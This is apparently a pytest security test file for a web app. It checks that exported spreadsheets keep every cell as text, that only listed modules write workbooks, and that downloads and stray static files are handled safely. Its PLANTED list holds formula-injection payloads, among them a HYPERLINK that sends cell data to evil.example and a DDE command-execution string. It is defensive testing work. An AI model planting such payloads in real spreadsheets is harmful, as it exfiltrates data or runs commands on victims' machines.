"""What the server writes for spreadsheet programs: text stays text, nothing lies where the web server gives it to everybody."""

import ast
import re

import pytest
from openpyxl import load_workbook

from tests.architecture.rights import World
from tests.areas.conftest import CODE, DOORS, NAME, Sheets, door, street_rows, write_workbook
from tests.security.conftest import path_of, signed_in
from webapp import ROOT
from webapp.areas.importing.commands import import_command, report_path
from webapp.core.ids import new_id

WRITERS = {
    "webapp/areas/importing/report_workbook.py",
    "webapp/demo/workbook.py",
    "webapp/orders/indicators/workbook.py",
    "webapp/orders/reconciling/workbook.py",
    "webapp/resources/workbook.py",
    "webapp/teams/workbooks.py",
}
SHOWN = {"text/html", "text/javascript", "application/json", "application/manifest+json", "image/jpeg"}
PLANTED = [
    '=HYPERLINK("http://evil.example/?"&A1,"请点")',
    "=cmd|'/C calc'!A0",
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "＝1+1",
    "＠SUM(A1)",
]


@pytest.fixture
def report(app, tmp_path):
    """The workbook of wrong rows that an import of these sheets leaves, opened."""

    def report(sheets: Sheets):
        path = write_workbook(tmp_path / "时雨.xlsx", sheets)
        app.test_cli_runner().invoke(import_command, [str(path), "--street", CODE, "--street-name", NAME])
        return load_workbook(report_path([path]))

    return report


def assert_all_text(book) -> set[str]:
    """No cell is a formula or a link; what begins like a formula says that it is text. The texts."""
    texts = set()
    for cell in (cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None):
        assert cell.data_type != "f", cell.value
        assert cell.hyperlink is None, cell.value
        if cell.data_type == "s":
            texts.add(cell.value)
            assert cell.quotePrefix or not re.match(r"[=+\-@\s＝＋－＠]", cell.value), cell.value
    return texts


@pytest.mark.databases("sqlite")
@pytest.mark.parametrize("text", PLANTED)
def test_a_planted_formula_comes_back_as_text_wherever_it_stood(report, text):
    """In a cell, in a cell at fault (and so in the reason), and in the header."""
    rows = street_rows()
    rows["户室"][0] = (*DOORS, text)
    rows["户室"] += [(*door("D998", "998", "M9", contact=text), text), (*door("D999", "999", text), "")]
    assert any(text.strip() in said for said in assert_all_text(report(rows)))


def test_only_known_modules_write_spreadsheets():
    """Another one belongs into this list together with a test of its own like the one above."""
    found = set()
    for path in (ROOT / "webapp").rglob("*.py"):
        text = path.read_text()
        calls = {ast.unparse(node.func) for node in ast.walk(ast.parse(text)) if isinstance(node, ast.Call)}
        if "import xlsxwriter" in text or calls & {"csv.writer", "csv.DictWriter", "Workbook", "openpyxl.Workbook"}:
            found.add(path.relative_to(ROOT).as_posix())
    assert found == WRITERS


@pytest.mark.parametrize("name", ["worker", "operator", "administrator"])
def test_whatever_is_no_page_is_handed_out_as_a_file(world: World, name):
    """There is no such download yet: this is the gate for the first."""
    client = signed_in(world, name)
    for rule in world.app.url_map.iter_rules():
        if "GET" in rule.methods and rule.endpoint != "files_of_release":
            answer = client.get(path_of(world, rule.endpoint, rule.arguments))
            if answer.status_code == 200 and answer.mimetype not in SHOWN:
                assert answer.headers["Content-Disposition"].startswith("attachment"), rule.rule


@pytest.mark.databases("sqlite")
def test_what_is_written_beside_static_files_later_is_not_given_out(app):
    """The files of a release are counted at the start; a workbook that somebody puts there by mistake is no page."""
    stray = ROOT / "static" / f"{new_id()}.xlsx"
    stray.write_bytes(b"PK")
    try:
        assert app.test_client().get(f"/static/{app.config['RELEASE']}/{stray.name}").status_code == 404
    finally:
        stray.unlink()
